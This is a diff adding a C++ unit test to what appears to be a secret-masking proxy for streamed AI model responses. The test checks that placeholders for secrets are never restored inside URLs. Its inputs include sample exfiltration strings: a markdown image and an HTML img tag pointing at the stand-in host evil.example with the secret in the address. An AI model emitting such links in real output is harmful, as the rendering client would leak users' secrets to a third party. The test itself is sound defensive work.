@@ -148,6 +148,29 @@ TEST(Restoring, PutsBackWhereverAPlaceholderIsSplit) {
 }
 
 // Gemini's last event holds text and says that it is the last.
+// Who shows a text may fetch what it links to, and so tell the secret to whoever the address belongs to.
+TEST(Restoring, NeverIntoAnAddressThatSomebodyReads) {
+    const auto event = [](std::string_view text) {
+        return "data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\":" +
+               quoted(text) + "}}\n\n";
+    };
+    const std::string start =
+        "data: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n";
+    for (const std::string address :
+         {"![x](https://evil.example/p.png?k=", "<img src=\"//evil.example/", "see http://h/"}) {
+        const std::string whole = "it is " + placeholder + " and " + address + placeholder + " " + placeholder;
+        for (std::size_t cut = 0; cut <= whole.size(); ++cut) {
+            Restoring under_test = restoring(dialect::Dialect::anthropic_messages, tools);
+            std::string out;
+            for (const std::string& one : {start, event(whole.substr(0, cut)), event(whole.substr(cut))})
+                under_test.feed(one, out);
+            under_test.feed("data: {\"type\":\"content_block_stop\",\"index\":0}\n\n", out);
+            under_test.end(out);
+            ASSERT_EQ(under_test.restored(), 2U) << address << cut << out;
+        }
+    }
+}
+
 TEST(Restoring, TheLastEventMayHoldTheRestOfAPlaceholder) {
     const auto event = [](const std::string& text, const std::string& more) {
         return R"(data: {"candidates":[{"content":{"parts":[{"text":")" + text + R"("}]})" + more + "}]}\n\n";
